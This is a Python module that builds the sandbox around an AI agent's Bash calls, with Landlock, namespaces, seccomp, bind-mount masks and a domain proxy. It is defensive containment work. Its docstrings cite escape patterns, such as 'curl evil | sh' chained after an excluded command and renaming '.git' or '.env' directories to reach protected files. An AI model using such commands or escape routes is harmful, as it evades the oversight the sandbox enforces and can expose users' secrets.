"""The session's sandbox: what Bash may touch, built once, applied to every call.

Owns: turning the settings (``sandbox.*``, the permission rules' Read/Edit denials,
``additionalDirectories``), ``--sandbox on|off|auto`` and what the kernel offers into one
``Sandbox`` object: whether commands are sandboxed at all and why not (``status``, which
``ready`` carries); which calls run outside it (``route``: ``excludedCommands``,
``dangerouslyDisableSandbox``); the per-session pieces built once (the Landlock ruleset, the
seccomp program, the list of masks, the network namespace and its proxy, the temp dir, the
environment); and ``spawn_options``, what a Bash spawn adds to run inside it.
Must not: decide whether a call is *allowed* (the permission gate does, asking ``route``
and ``auto_allows``), or spawn processes itself.

What holds where (docs/sandbox.md has the whole table):

- writes: Landlock allows writing only under the workspace, ``additionalDirectories``, the
  session temp dir (``TMPDIR``), the spill dir and ``sandbox.filesystem.allowWrite``;
- control files under those (``permissions.protected``), Edit deny rules and
  ``denyWrite``: read-only bind mounts in a private mount namespace;
- reads denied by Read rules and ``denyRead``: an empty file or directory mounted over the
  path (a pattern is expanded by a bounded walk of the workspace at session start; other
  names of a hard-linked denied file found by that walk are masked too);
- network: the session's network namespace (loopback only) plus the proxy for
  ``allowedDomains``; ``socket(AF_UNIX)`` refused by seccomp unless ``allowAllUnixSockets``;
- Landlock also stops the sandboxed process from mounting/unmounting (the masks stay),
  from ptrace-like access to processes outside it (``/proc/PID/root`` of the daemon), and,
  at ABI 6, from signalling them.
"""

from __future__ import annotations

import contextlib
import logging
import os
import re
import stat
import sys
import threading
from collections.abc import Callable, Iterable, Sequence
from typing import Any, Literal

import msgspec

from .. import dirstamps
from ..permissions.protected import control_paths
from ..private_dir import private_dir
from .settings import SandboxSettings

__all__ = ["Route", "Sandbox", "SandboxStatus", "Spawn", "StartupError", "build_sandbox"]

log = logging.getLogger("stdio_executor")

Route = Literal["sandboxed", "excluded", "disabled", "off"]
_WALK_LIMIT = 50_000  # directory entries looked at, per session, to expand deny patterns
_GLOB = re.compile(r"[*?\[]")


class StartupError(Exception):
    """The sandbox is required and cannot be had; the message says what is missing."""


class SandboxStatus(msgspec.Struct, frozen=True):
    """What ``ready`` says about the sandbox."""

    enabled: bool
    mechanism: str  # "landlock+namespaces", "landlock", "bubblewrap", "none"
    network: str  # "blocked", "proxy", "unrestricted"
    enforced: tuple[str, ...] = ()
    not_enforced: tuple[str, ...] = ()
    held_back: tuple[str, ...] = ()
    reason: str = ""
    allowed_domains: tuple[str, ...] = ()


class _Built(msgspec.Struct):
    plan: Any  # kernel.ChildPlan without a proxy token
    env: dict[str, str]
    proxy: Any = None  # proxy.DomainProxy
    proxy_port: int = 0
    netns: Any = None  # netns.NetNamespace: the session's, kept open by its fds
    existing: _Existing | None = None  # which bind targets exist (checked per call)
    # The last call's plan for the binds that existed then (and its share key): the next
    # call with the same set reuses them.
    last: tuple[frozenset[bytes], Any, Any] | None = None


class _Existing:
    """Which of many paths exist, per call, without an ``lstat`` of each: the paths are
    grouped by parent directory, and a directory whose stamp has not changed since it was
    looked at has the same entries (creating, removing or renaming an entry changes it).
    ``dirstamps`` owns when a stamp may be trusted (a directory changed within the last 2 s
    is looked at again next time, as is one on a file system that does not keep its times;
    a change of the mount table forgets everything); the Glob tool's listings follow the
    same rule."""

    def __init__(self, paths: Iterable[bytes]) -> None:
        groups: dict[bytes, list[bytes]] = {}
        for path in paths:
            groups.setdefault(os.path.dirname(path), []).append(path)
        self._groups = [
            (parent, tuple(found), tuple(os.path.basename(p) for p in found))
            for parent, found in groups.items()
        ]
        self._seen: dict[bytes, tuple[tuple[int, ...], tuple[bytes, ...]]] = {}
        self._mounts = -1

    def check(self) -> frozenset[bytes]:
        out: list[bytes] = []
        mounts = dirstamps.mount_generation()
        if mounts != self._mounts:
            self._seen.clear()
            self._mounts = mounts
        for parent, paths, names in self._groups:
            try:
                st = os.stat(parent)
            except OSError:
                self._seen.pop(parent, None)
                continue  # no parent: none of its paths exists
            key = dirstamps.stamp(st)
            seen = self._seen.get(parent)
            if seen is not None and seen[0] == key:
                out += seen[1]
                continue
            found = _present(parent, st, paths, names)
            out += found
            if dirstamps.settled(st) and dirstamps.reliable(st.st_dev):
                self._seen[parent] = (key, found)
            else:
                self._seen.pop(parent, None)
        return frozenset(out)


# A directory this small (st_size: ext4 two blocks, tmpfs ~400 entries) is read whole, one
# getdents instead of an lstat per name (33 names under a writable root); a larger one is
# asked name by name, so a spill directory of thousands of files costs no more than before.
_LIST_MAX_BYTES = 8192


def _present(
    parent: bytes, st: os.stat_result, paths: tuple[bytes, ...], names: tuple[bytes, ...]
) -> tuple[bytes, ...]:
    """Which of ``paths`` (entries ``names`` of ``parent``) exist: an entry of the
    directory is what ``lexists`` finds."""
    if len(paths) > 2 and st.st_size <= _LIST_MAX_BYTES:
        try:
            entries = set(os.listdir(parent))
        except OSError:
            pass
        else:
            return tuple(p for p, name in zip(paths, names, strict=True) if name in entries)
    return tuple(p for p in paths if os.path.lexists(p))


class Spawn(msgspec.Struct, frozen=True):
    """What one sandboxed spawn adds: namespaces to create, the function to run in the
    child inside them (module-level, picklable arguments) and the environment."""

    unshare_flags: int
    pre_exec: Callable[..., None] | None
    pre_exec_args: tuple[Any, ...]
    env: dict[str, str]
    token: bytes  # give back with ``Sandbox.release`` when the call is over
    argv_prefix: tuple[str, ...] = ()  # bubblewrap's command line, when that is the mechanism
    # The set-up may serve many calls (``processes.ChildSetup.share_key``): where calls
    # join the session's network namespace, the plan without its per-call proxy token
    # (which is used only by a call that makes a network namespace of its own).
    share_key: Any = None


class Sandbox(msgspec.Struct):
    """One per session. ``active`` is False when commands run unsandboxed (``status``
    says why). ``prepare`` builds the per-session pieces once; it may run in a thread."""

    status: SandboxStatus
    settings: SandboxSettings
    workspace: str
    writable: tuple[str, ...] = ()
    deny_read: tuple[str, ...] = ()
    read_only: tuple[str, ...] = ()
    # Files (and trees) whose other names in a writable tree join ``read_only`` when the
    # sandbox is prepared: a walk, kept off the path to ``ready``.
    linked_sources: tuple[str, ...] = ()
    tmp_dir: str = ""
    mask_dir: str = ""
    abi: int = 0
    userns: bool = False
    explicit: bool = False  # the settings enabled it (`sandbox.enabled: true`, trusted)
    bwrap: str | None = None  # bubblewrap's path: the mechanism where Landlock is missing
    # Each call makes its own network namespace even where it could join the session's
    # (STDIO_EXECUTOR_SANDBOX_DISABLE=join: how the tests reach that path as root).
    no_join: bool = False
    _built: _Built | None = None
    _lock: threading.Lock = msgspec.field(default_factory=threading.Lock)
    _failed: str | None = None

    @property
    def active(self) -> bool:
        return self.status.enabled

    @property
    def cwd_dir(self) -> str:
        """Where a sandboxed shell writes its final working directory (tools/bash.py): a
        directory of the sandbox's own, writable by every sandboxed call."""
        return os.path.join(self.mask_dir, "cwd")

    # ------------------------------------------------------------------ decisions

    def route(self, command: str, disable: bool) -> Route:
        """Where a Bash command runs. ``disabled`` (the model asked, with
        ``dangerouslyDisableSandbox``) still needs the gate's ask, and is refused when
        ``allowUnsandboxedCommands`` is false."""
        if not self.active:
            return "off"
        if disable:
            return "disabled"
        if self.settings.excluded_commands and excluded(command, self.settings.excluded_commands):
            return "excluded"
        return "sandboxed"

    def auto_allows(self, command: str, disable: bool) -> bool:
        """``autoAllowBashIfSandboxed``: a call that runs sandboxed needs no ask, when the
        settings (a trusted file) turned the sandbox on explicitly."""
        return (
            self.explicit
            and self.settings.auto_allow
            and self.route(command, disable) == "sandboxed"
        )

    # ------------------------------------------------------------------ the pieces

    def prepare(self) -> None:
        """Build the ruleset, masks, namespaces and proxy (once). Raises OSError when the
        kernel refuses: sandboxed calls then fail instead of running unprotected."""
        if self._built is not None:
            return
        with self._lock:
            if self.ready:
                return
            if self._failed is not None:
                raise OSError(self._failed)
            try:
                self._add_other_names()
                self._built = self._build()
            except OSError as exc:
                self._failed = f"the sandbox could not be set up: {exc}"
                raise OSError(self._failed) from exc

    def _add_other_names(self) -> None:
        """Other names (hard links made before the session) of the control files, home's
        included, under the writable trees: read-only too, or ``echo >> notes.cfg``
        writes ``.git/config`` (Landlock and the bind mounts judge the name)."""
        if not self.linked_sources:
            return
        notes: list[str] = []
        extra = _other_names(self.linked_sources, self.writable, notes, "control")
        self.linked_sources = ()
        for note in notes:
            log.warning("sandbox: %s", note)
        if extra:
            self.read_only = tuple(dict.fromkeys((*self.read_only, *extra)))

    @property
    def ready(self) -> bool:
        return self._built is not None

    def spawn(self) -> Spawn:
        """The additions for one sandboxed call; ``prepare`` must have run."""
        built = self._built
        assert built is not None
        if self.bwrap is not None:
            return Spawn(0, None, (), built.env, b"", self._bwrap_argv())
        from . import kernel

        # Only what exists gets mounted over; with nothing to mount, no mount namespace
        # (copied on creation, unmounted on exit). A path created between this check and
        # the spawn is covered from the next call on.
        if built.existing is None:
            built.existing = _Existing(b.target for b in built.plan.binds)
        existing = built.existing.check()
        if built.last is not None and built.last[0] == existing:
            _, plan, shared = built.last
        else:
            plan = built.plan
            if len(existing) != len(plan.binds):
                plan = plan._replace(binds=tuple(b for b in plan.binds if b.target in existing))
            shared = plan if plan.join is not None else None
            built.last = (existing, plan, shared)
        token = b""
        if built.proxy is not None:
            token = os.urandom(16)
            plan = plan._replace(proxy=(built.proxy.control_path, built.proxy_port, token))
        # No namespaces at clone time: ``enter`` joins the session's where it may, and
        # makes its own only where it may not (kernel.enter).
        return Spawn(0, kernel.enter, (plan,), built.env, token, share_key=shared)

    def _bwrap_argv(self) -> tuple[str, ...]:
        """bubblewrap: the root read-only, the writable trees bound writable, masks and
        read-only control files on top (only those that exist: bwrap cannot mount on a
        path that is not there), no network, no capabilities."""
        assert self.bwrap is not None
        argv = [self.bwrap, "--unshare-user", "--unshare-net", "--cap-drop", "ALL"]
        argv += ["--die-with-parent", "--ro-bind", "/", "/", "--dev", "/dev"]
        for path in self.writable:
            if os.path.isdir(path):
                argv += ["--bind", path, path]
        for path in self.deny_read:
            if os.path.isdir(path):
                argv += ["--tmpfs", path, "--remount-ro", path]
            elif os.path.lexists(path):
                argv += ["--ro-bind", "/dev/null", path]
        for path in self.read_only:
            if os.path.lexists(path):
                argv += ["--ro-bind", path, path]
        return (*argv, "--")

    def preexec(self, spawn: Spawn) -> Callable[[], None]:
        """``spawn`` as a ``preexec_fn`` for a spawn that makes no namespaces itself."""
        from .kernel import enter

        (plan,) = spawn.pre_exec_args

        def setup() -> None:  # runs in the child between fork and exec
            enter(plan)

        return setup

    def release(self, spawn: Spawn) -> None:
        """The call is over (its process has exited): its proxy listener goes."""
        built = self._built
        if spawn.token and built is not None and built.proxy is not None:
            built.proxy.release(spawn.token)

    def close(self) -> None:
        built, self._built = self._built, None
        if built is not None and built.proxy is not None:
            built.proxy.close()
        if built is not None and built.netns is not None:
            built.netns.close()

    def _build(self) -> _Built:
        from . import kernel

        for path in (self.mask_dir, self.tmp_dir, self.cwd_dir):  # Landlock needs them
            os.close(private_dir(path))
        if self.bwrap is not None:
            return _Built(None, {**os.environ, "TMPDIR": self.tmp_dir})
        empty_dir = os.path.join(self.mask_dir, "empty.d")
        empty_file = os.path.join(self.mask_dir, "empty")
        os.makedirs(empty_dir, mode=0o500, exist_ok=True)
        with open(empty_file, "wb"):
            pass
        os.chmod(empty_file, 0o400)
        mask_flags = kernel.mount_flags(self.mask_dir)
        ids = tuple((st.st_dev, st.st_ino) for st in map(os.lstat, (empty_file, empty_dir)))
        binds = [
            kernel.Bind(os.fsencode(p), os.fsencode(p), None, 0, pin=True)
            for p in _pins([*self.deny_read, *self.read_only], self.writable)
        ]
        binds += [
            kernel.Bind(
                os.fsencode(empty_file),
                os.fsencode(p),
                os.fsencode(empty_dir),
                mask_flags,
                False,
                ids,
            )
            for p in self.deny_read
        ]
        binds += [
            kernel.Bind(os.fsencode(p), os.fsencode(p), None, kernel.mount_flags(p))
            for p in self.read_only
        ]
        env = dict(os.environ)
        env["TMPDIR"] = self.tmp_dir
        proxy = ns = None
        port = 0
        join = None
        if self.userns:
            from .netns import create

            ns = create(listen=bool(self.settings.allowed_domains))
            # Paths, not fds: the call's process may be the spawner's child, not ours.
            me = os.getpid()
            if not self.no_join:
                join = (f"/proc/{me}/fd/{ns.userns_fd}", f"/proc/{me}/fd/{ns.netns_fd}")
        if self.settings.allowed_domains and ns is not None and ns.listener is not None:
            from .proxy import DomainProxy

            proxy = DomainProxy(_proxy_socket(self.mask_dir), self.settings.allowed_domains)
            proxy.start()
            # The session's namespace has its listener already; a call in a namespace of
            # its own makes one on the same port there and hands it over.
            port = ns.proxy_port or 0
            proxy.serve(b"session", ns.listener)
            url = f"http://127.0.0.1:{port}"
            for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
                env[name] = env[name.lower()] = url
            # The proxy decides; a NO_PROXY inherited from the host would send some names
            # straight at a network that does not exist in here.
            env.pop("NO_PROXY", None)
            env.pop("no_proxy", None)
        seccomp = None if self.settings.allow_all_unix_sockets else kernel.unix_socket_filter()
        plan = kernel.ChildPlan(
            isolated=self.userns,
            join=join,
            abi=self.abi,
            writable=(*self.writable, "/dev/shm"),
            devices=_DEVICES,
            binds=tuple(binds) if self.userns else (),
            seccomp=seccomp,
            proxy=None,
        )
        return _Built(plan, env, proxy, port, ns)


_DEVICES = (
    "/dev/null",
    "/dev/zero",
    "/dev/full",
    "/dev/random",
    "/dev/urandom",
    "/dev/tty",
    "/dev/ptmx",
)


def excluded(command: str, patterns: Sequence[str]) -> bool:
    """Whether every simple command of ``command`` starts with one of ``patterns`` (Claude
    Code's ``excludedCommands``: ``docker``, ``docker:*``, ``npm run test:*``). Every, not
    some: ``docker ps; curl evil | sh`` must not take its neighbours out with it (Claude
    Code issues #40831, #81157 report that as an escape). A line that cannot be split (a
    command substitution, say) is not excluded either: it stays in the sandbox."""
    from ..permissions.bash_syntax import split_simple_commands

    commands = split_simple_commands(command)
    if not commands:
        return False
    prefixes = [p.removesuffix(":*").removesuffix("*").split() for p in patterns]
    return all(
        any(prefix and words[: len(prefix)] == prefix for prefix in prefixes) for words in commands
    )


# ---------------------------------------------------------------------------- building


def build_sandbox(
    settings: SandboxSettings,
    *,
    mode: str,
    workspace: str,
    spill_dir: str,
    additional_directories: Sequence[str] = (),
    deny_rules: Iterable[Any] = (),
    hook_files: Sequence[str] = (),
    disabled: Sequence[str] = (),
) -> Sandbox:
    """The session's sandbox. Raises ``StartupError`` when it is required (``--sandbox
    on``, or ``sandbox.failIfUnavailable``) and this system cannot provide it."""
    base = spill_dir.rstrip("/") + "-sandbox"
    tmp_dir = os.path.join(base, "tmp")
    required = mode == "on" or settings.required
    wanted = mode != "off" and settings.enabled is not False
    if mode == "off" and settings.required:
        raise StartupError(
            "the settings require the sandbox (sandbox.failIfUnavailable) but --sandbox off "
            "was given"
        )
    if mode == "on" and settings.enabled is False:
        wanted = True  # the host's flag wins over a settings file turning it off
    if not sys.platform.startswith("linux"):
        reason = f"no sandbox on {os.uname().sysname} yet (only Linux: Landlock + namespaces)"
        return _unsupported(settings, workspace, reason, required)
    if not wanted:
        why = "--sandbox off" if mode == "off" else "sandbox.enabled is false in the settings"
        status = SandboxStatus(
            False, "none", "unrestricted", reason=why, held_back=settings.held_back
        )
        return Sandbox(status, settings, workspace)
    from .probe import probe

    support = probe(disabled=disabled)
    bwrap = None
    if support.landlock_abi == 0 and support.user_namespaces and "bwrap" not in disabled:
        bwrap = _which("bwrap")
    if bwrap is None and (support.landlock_abi == 0 or (required and not support.user_namespaces)):
        return _unsupported(settings, workspace, support.problem, required)
    writable = _writable(workspace, tmp_dir, additional_directories, settings)
    deny_read, edit_denied, notes = _deny_paths(settings, deny_rules, workspace, writable)
    read_only, linked_sources = _read_only(workspace, writable, edit_denied, settings, hook_files)
    if deny_read:
        # Masking .git/objects would break git itself; a denied file once committed stays
        # readable there (`git show HEAD:.env`, any program reading the objects).
        notes.append("what git stores of the files Read deny rules cover (.git/objects)")
    if bwrap is not None:
        box = _bubblewrap(
            settings, workspace, bwrap, writable, deny_read, read_only, tmp_dir, base, notes
        )
        box.linked_sources = linked_sources
        return box
    enforced = [
        "writes outside the workspace, additionalDirectories, the session temp dir "
        "and sandbox.filesystem.allowWrite (Landlock)"
    ]
    not_enforced = list(notes)
    if support.user_namespaces:
        mechanism = "landlock+namespaces"
        network = "proxy" if settings.allowed_domains else "blocked"
        enforced += [
            "control files and Edit/denyWrite paths under writable directories are "
            "read-only (bind mounts)",
            "Read deny rules and sandbox.filesystem.denyRead (masked by bind mounts)",
            "network: a namespace with only loopback"
            + ("; allowedDomains through the session proxy" if settings.allowed_domains else ""),
        ]
        if settings.allow_all_unix_sockets:
            not_enforced.append("unix sockets (sandbox.network.allowAllUnixSockets)")
        else:
            enforced.append("socket(AF_UNIX) refused (seccomp)")
    else:
        mechanism = "landlock"
        network = "unrestricted"
        not_enforced += [
            "network (no user namespaces: " + support.problem + ")",
            "Read deny rules and denyRead for Bash (no mount namespace)",
            "control files under the workspace stay writable by Bash",
        ]
    if settings.allow_read:
        not_enforced.append("sandbox.filesystem.allowRead (a masked path stays masked)")
    if settings.allow_unix_sockets:
        not_enforced.append("sandbox.network.allowUnixSockets (macOS only, as in Claude Code)")
    if support.landlock_abi >= 6:
        enforced.append("signals and abstract unix sockets scoped to the sandbox (Landlock)")
    status = SandboxStatus(
        True,
        mechanism,
        network,
        tuple(enforced),
        tuple(not_enforced),
        settings.held_back,
        allowed_domains=settings.allowed_domains,
    )
    return Sandbox(
        status,
        settings,
        workspace,
        writable=writable,
        deny_read=deny_read,
        read_only=read_only,
        linked_sources=linked_sources,
        tmp_dir=tmp_dir,
        mask_dir=base,
        abi=support.landlock_abi,
        userns=support.user_namespaces,
        explicit=settings.enabled is True and settings.enabled_by_trusted,
        no_join="join" in disabled,
    )


def _which(name: str) -> str | None:
    import shutil  # only where Landlock is missing: not on the usual start-up path

    return shutil.which(name)


def _bubblewrap(
    settings: SandboxSettings,
    workspace: str,
    bwrap: str,
    writable: tuple[str, ...],
    deny_read: tuple[str, ...],
    read_only: tuple[str, ...],
    tmp_dir: str,
    base: str,
    notes: list[str],
) -> Sandbox:
    """No Landlock, but bubblewrap is installed: the same file-system promises through its
    mounts, no network at all (no proxy: the child cannot hand over a listener)."""
    not_enforced = [*notes, "unix sockets (no seccomp filter under bubblewrap)"]
    if settings.allowed_domains:
        not_enforced.append("sandbox.network.allowedDomains: no proxy under bubblewrap")
    status = SandboxStatus(
        True,
        "bubblewrap",
        "blocked",
        (
            "writes outside the workspace, additionalDirectories, the session temp dir and "
            "sandbox.filesystem.allowWrite (bubblewrap: read-only root, writable binds)",
            "control files and Edit/denyWrite paths under writable directories are "
            "read-only (bind mounts)",
            "Read deny rules and sandbox.filesystem.denyRead (masked by bind mounts)",
            "network: a namespace with only loopback",
            "no capabilities (--cap-drop ALL)",
        ),
        tuple(not_enforced),
        settings.held_back,
        allowed_domains=settings.allowed_domains,
    )
    return Sandbox(
        status,
        settings,
        workspace,
        writable=writable,
        deny_read=deny_read,
        read_only=read_only,
        tmp_dir=tmp_dir,
        mask_dir=base,
        userns=True,
        explicit=settings.enabled is True and settings.enabled_by_trusted,
        bwrap=bwrap,
    )


def _unsupported(settings: SandboxSettings, workspace: str, reason: str, required: bool) -> Sandbox:
    if required:
        raise StartupError(f"the sandbox is required but not available: {reason}")
    status = SandboxStatus(
        False, "none", "unrestricted", reason=reason, held_back=settings.held_back
    )
    return Sandbox(status, settings, workspace)


def _writable(
    workspace: str,
    tmp_dir: str,
    dirs: Sequence[str],
    settings: SandboxSettings,
) -> tuple[str, ...]:
    # Not the spill dir: the daemon writes results there, and a symlink planted under the
    # name of its next file would lead that write outside. The shell writes its final
    # working directory in a directory of its own instead (``Sandbox.cwd_dir``).
    cwd_dir = os.path.join(os.path.dirname(tmp_dir), "cwd")
    paths = [workspace, *dirs, tmp_dir, cwd_dir, *settings.allow_write]
    return tuple(dict.fromkeys(os.path.realpath(p) for p in paths))


def _read_only(
    workspace: str,
    writable: Sequence[str],
    edit_denied: Sequence[str],
    settings: SandboxSettings,
    hook_files: Sequence[str],
) -> tuple[tuple[str, ...], tuple[str, ...]]:
    """The control files (the permission layer's list, ``permissions.protected``) and the
    Edit/denyWrite paths that lie under a writable tree: those need a read-only mount (the
    rest is read-only through Landlock already). ``.git`` as a whole stays writable, so
    that git works in the sandbox: only its ``config``, ``hooks`` and ``info`` (what makes
    git run programs) are protected, as Claude Code does."""
    home = os.path.expanduser("~")
    roots = [r for r in writable if r != workspace]
    out: list[str] = []
    for path in control_paths(workspace, home, hook_files, roots=roots):
        if os.path.basename(path) == ".git" and os.path.isdir(path):
            out += [os.path.join(path, n) for n in ("config", "hooks", "info")]
        elif os.path.basename(path) == ".git":
            # In a linked worktree (or a submodule) `.git` is a file naming the git
            # directory: rewritten, it would point the user's next `git status` at a
            # config of the command's choosing.
            out.append(path)
        else:
            out.append(path)
    out += [*edit_denied, *settings.deny_write]
    # All of them, home's included, are sources of other names (Sandbox.linked_sources).
    everything = tuple(dict.fromkeys(out))
    return tuple(p for p in everything if _under_any(p, writable)), everything


def _proxy_socket(directory: str) -> str:
    """The proxy's control socket: one per daemon, so a session that reuses a
    ``--spill-dir`` after another ended without removing its socket (SIGKILLed) can bind
    its own; a stale one of a recycled pid is removed (the directory is ours alone)."""
    path = os.path.join(directory, f"proxy-{os.getpid()}.sock")
    with contextlib.suppress(FileNotFoundError):
        os.unlink(path)
    return path


def _pins(protected: Sequence[str], writable: Sequence[str]) -> list[str]:
    """The directories between a writable root and each protected path under it (the root
    and the path excluded), shallowest first: made mount points so that no command can
    rename them, and with them the protected path, out of the way (``mv .git .git-old;
    mkdir .git`` or ``mv conf conf2; cat conf2/.env``)."""
    out: list[str] = []
    for path in protected:
        for root in writable:
            if not path.startswith(root.rstrip("/") + "/"):
                continue
            parent = os.path.dirname(path)
            chain = []
            while parent != root and parent.startswith(root.rstrip("/") + "/"):
                chain.append(parent)
                parent = os.path.dirname(parent)
            out += reversed(chain)
    return sorted(dict.fromkeys(out), key=lambda p: p.count("/"))


def _under_any(path: str, roots: Sequence[str]) -> bool:
    return any(path == r or path.startswith(r.rstrip("/") + "/") for r in roots)


def _deny_paths(
    settings: SandboxSettings, rules: Iterable[Any], workspace: str, writable: Sequence[str]
) -> tuple[tuple[str, ...], tuple[str, ...], list[str]]:
    """Concrete paths for Read denials (masked) and Edit denials (read-only), from
    ``denyRead`` and the permission deny rules; notes on what could not be expanded."""
    read: list[str] = list(settings.deny_read)
    edit: list[str] = []
    patterns: list[tuple[str, Any]] = []
    for rule in rules:
        path = getattr(rule, "path", None)
        tool = getattr(rule, "tool", "")
        if path is None or tool not in ("Read", "Edit", "Write"):
            continue
        target = read if tool == "Read" else edit
        literal = _literal(path)
        if literal is not None:
            target.append(literal)
        else:
            patterns.append((tool, path))
    notes: list[str] = []
    walk_roots = [r for r in dict.fromkeys([workspace, *writable])]
    if patterns:
        found, complete = _walk(walk_roots, lambda p: [t for t, pat in patterns if pat.matches(p)])
        for p, tools in found.items():
            (read if "Read" in tools else edit).append(p)
            if "Read" in tools and any(t != "Read" for t in tools):
                edit.append(p)
        if not complete:
            notes.append(f"deny patterns were expanded over the first {_WALK_LIMIT} entries only")
        notes.append("files matching a deny pattern created after start-up are not masked for Bash")
    read += _other_names(read, walk_roots, notes, "denied")
    return tuple(dict.fromkeys(read)), tuple(dict.fromkeys(edit)), notes


def _literal(pattern: Any) -> str | None:
    """The one path an anchored, wildcard-free pattern names (``dir/**`` names ``dir``)."""
    spec = pattern.spec.strip()
    body = spec[2:] if spec.startswith(("//", "~/", "./")) else spec.lstrip("/")
    body = body.rstrip("/")
    if body.endswith("/**"):
        body = body[:-3]
    if not pattern.anchored or _GLOB.search(body) or not body:
        return None
    return os.path.normpath(os.path.join(str(pattern.base), body))


def _walk(
    roots: Sequence[str], match: Callable[[str], list[str]]
) -> tuple[dict[str, list[str]], bool]:
    found: dict[str, list[str]] = {}
    seen = 0
    stack = [r for r in roots if os.path.isdir(r)]
    while stack:
        top = stack.pop()
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for entry in entries:
            seen += 1
            if seen > _WALK_LIMIT:
                return found, False
            tools = match(entry.path)
            if tools:
                found[entry.path] = tools
                continue  # masked whole: nothing below needs its own mask
            if entry.is_dir(follow_symlinks=False):
                stack.append(entry.path)
    return found, True


def _other_names(
    paths: Sequence[str], roots: Sequence[str], notes: list[str], what: str
) -> list[str]:
    """The other names, under the writable roots, of files in ``paths`` (or below a
    directory in ``paths``) that have more than one link: a hard link is the same file, so
    masking or write-protecting one name must not leave another open (``sub/notes.cfg``
    linked to ``.git/config`` or to ``~/.bashrc`` before the session: Landlock judges the
    name, and that name lies in a writable tree). ``what`` words the notes. Links made
    later, or outside these roots, are not found; inside the sandbox ``ln`` cannot make one
    (a bind-mounted name is on another mount, and Landlock refuses linking a file from a
    tree the command may not write)."""
    ids: set[tuple[int, int]] = set()

    def linked(st: os.stat_result) -> None:
        if not stat.S_ISDIR(st.st_mode) and st.st_nlink > 1:
            ids.add((st.st_dev, st.st_ino))

    def below(p: str) -> list[str]:  # records, never matches: the walk goes everywhere
        with contextlib.suppress(OSError):
            linked(os.lstat(p))
        return []

    trees: list[str] = []
    for p in paths:
        try:
            st = os.stat(p)
        except OSError:
            continue
        if stat.S_ISDIR(st.st_mode):
            trees.append(p)
        else:
            linked(st)
    if trees and not _walk(trees, below)[1]:
        notes.append(f"{what} directories were searched for hard-linked files in part only")
    if not ids:
        return []

    def same(p: str) -> list[str]:
        try:
            st = os.lstat(p)
        except OSError:
            return []
        return ["same"] if (st.st_dev, st.st_ino) in ids else []

    found, complete = _walk(roots, same)
    if not complete:
        notes.append(f"hard links to {what} files were searched in part of the tree only")
    inside = tuple(t.rstrip("/") + "/" for t in trees)  # covered with their directory
    named = set(paths)
    return [p for p in found if p not in named and not p.startswith(inside)]
